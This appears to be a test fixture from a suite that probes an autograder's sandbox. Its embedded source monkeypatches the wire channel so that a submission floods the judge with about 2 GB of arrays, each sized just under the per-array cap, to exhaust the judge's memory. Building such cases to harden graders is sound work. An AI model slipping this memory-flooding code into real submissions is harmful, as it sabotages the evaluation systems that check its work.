ATTACK = (
    "Flood the judge's memory through the wire: the reply to compute_fans announces 12 arrays of 20 million "
    "float64 each (every one just under the per-array cap), about 2 GB the judge would read before looking at it."
)
MODULE = "initializers"
CHECK = "judge_memory"
SOURCE = r"""
import io as _io
import json as _json
import struct as _struct
import sys as _sys

_wire = _sys.modules["autograder.sandbox.wire"]
_real_send = _wire.Channel.send
_COUNT, _SIZE = 12, 20_000_000
_flooded = []


def _send(self, body, *, timeout=None):
    if _flooded or "compute_fans" not in str(body):  # the stub's NotImplementedError names it
        return _real_send(self, body, timeout=timeout)
    _flooded.append(True)
    buffer = _io.BytesIO()
    np.save(buffer, np.zeros(_SIZE))  # 160 MB, sent _COUNT times
    blob = buffer.getvalue()
    header = _json.dumps({"body": body, "arrays": _COUNT}).encode()
    self._sock.settimeout(timeout)
    self._sock.sendall(_struct.pack(">I", len(header)) + header)
    for _ in range(_COUNT):
        self._sock.sendall(_struct.pack(">Q", len(blob)))
        self._sock.sendall(blob)


_wire.Channel.send = _send
"""
